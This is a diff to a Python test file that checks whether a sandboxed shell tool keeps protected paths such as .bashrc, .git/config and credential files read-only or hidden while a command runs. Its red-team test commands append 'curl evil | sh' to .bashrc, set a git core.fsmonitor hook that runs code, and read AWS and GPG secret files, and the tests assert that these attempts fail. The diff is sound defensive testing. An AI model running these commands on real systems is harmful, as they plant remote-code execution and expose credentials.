@@ -34,7 +34,8 @@ from mcp import Client
 from sandbox_mcp_harness import server
 
 from tether import inotify
-from tether.shell.sandbox import keeper
+from tether.process.tree import alive
+from tether.shell.sandbox import keeper, keeping
 
 pytestmark = pytest.mark.timeout(240)
 COVERED_WITHIN_S = 30.0  # a deadline for a busy machine, never a measure
@@ -162,6 +163,75 @@ async def test_a_hidden_path_absent_at_open_is_hidden_when_the_host_creates_it(
         attack = await _run(client, shell, "cat .aws/credentials .gnupg/private.key; ls -A .gnupg; echo done")
         assert "done" in attack["lines"] and not any("after" in line for line in attack["lines"]), attack
     assert secret.read_text() == "aws_secret_access_key = after\n"
+
+
+async def test_a_one_shot_command_keeps_its_protection_when_the_host_replaces_a_path(
+    tether_home: Path, home: Path
+) -> None:
+    # A command that runs on (a build, a test suite) while the person edits: it waits for the host
+    # to replace .bashrc and .git/config, then for both to be covered again (never true without a
+    # keeper: it then attacks after its deadline), then attacks.
+    command = (
+        "touch started; until [ -e moved ]; do sleep 0.01; done; "
+        "for i in $(seq 3000); do [ ! -w .bashrc ] && [ ! -w repo/.git/config ] && break; sleep 0.01; done; "
+        "echo 'curl evil | sh' >> .bashrc; echo rc=$?; "
+        "git config -f repo/.git/config core.fsmonitor 'touch /tmp/pwned'; echo git=$?"
+    )
+    config = home / "repo" / ".git" / "config"
+    async with server(tether_home, home, "--sandbox") as client:
+        answer: list[Any] = []
+
+        async def run() -> None:
+            answer.append(
+                await client.call_tool(
+                    "bash", {"command": command, "description": "red team", "timeoutMs": 120_000}
+                )
+            )
+
+        async with anyio.create_task_group() as group:
+            group.start_soon(run)
+            deadline = time.monotonic() + COVERED_WITHIN_S
+            while not (home / "started").exists():
+                assert time.monotonic() < deadline, "the command never started"
+                await anyio.sleep(0.01)
+            await anyio.run_process(
+                ["git", "-C", str(home / "repo"), "config", "user.name", "person"], check=True
+            )
+            _replace(home / ".bashrc", "# edited by the person\n")
+            (home / "moved").touch()
+        data = answer[0].structured_content or {}
+        lines = str(data["stdout"]["text"]).splitlines()
+        assert "rc=1" in lines and "git=0" not in lines, data
+    assert (home / ".bashrc").read_text() == "# edited by the person\n"
+    assert "fsmonitor" not in config.read_text() and "person" in config.read_text()
+
+
+async def test_a_command_keeper_starts_late_and_ends_with_its_command(tmp_path: Path) -> None:
+    kept_file = tmp_path / "kept"
+    kept_file.write_text("x")
+    async with (
+        await anyio.open_process(["true"]) as quick,
+        await anyio.open_process(["sleep", "600"]) as slow,
+    ):
+        short = keeping.CommandKeeper([(str(kept_file), "ro")])
+        short.started(quick.pid)
+        await quick.wait()
+        short.cancel()  # the command settled before KEEP_AFTER_S: no keeper at all
+        await anyio.sleep(keeping.KEEP_AFTER_S * 2)
+        assert short._process is None and await short.stop() is True
+
+        late = keeping.CommandKeeper([(str(kept_file), "ro"), (str(tmp_path / "absent"), "hide")])
+        late.started(slow.pid)
+        deadline = time.monotonic() + COVERED_WITHIN_S
+        while late._process is None:
+            assert time.monotonic() < deadline, "the keeper never started"
+            await anyio.sleep(0.01)
+        pid = late._process.pid
+        assert late._process.poll() is None  # keeping while the command runs
+        slow.kill()
+        await slow.wait()
+        assert await late.stop() is True  # it ended with the command, by itself
+        assert not alive(pid)
 
 
 # The keeper's own parts, against a real process in its own mount namespace (``unshare -m``, the
@@ -304,7 +374,8 @@ def test_a_keeper_that_cannot_mount_again_ends_the_sandbox(
 _UNPRIVILEGED = """
 import os, subprocess, sys, time
 from tether import inotify
-from tether.shell.sandbox import keeper
+from tether.process.tree import alive
+from tether.shell.sandbox import keeper, keeping
 d, f = sys.argv[1], os.path.join(sys.argv[1], "f")
 with open(f, "w") as out:
     out.write("x")
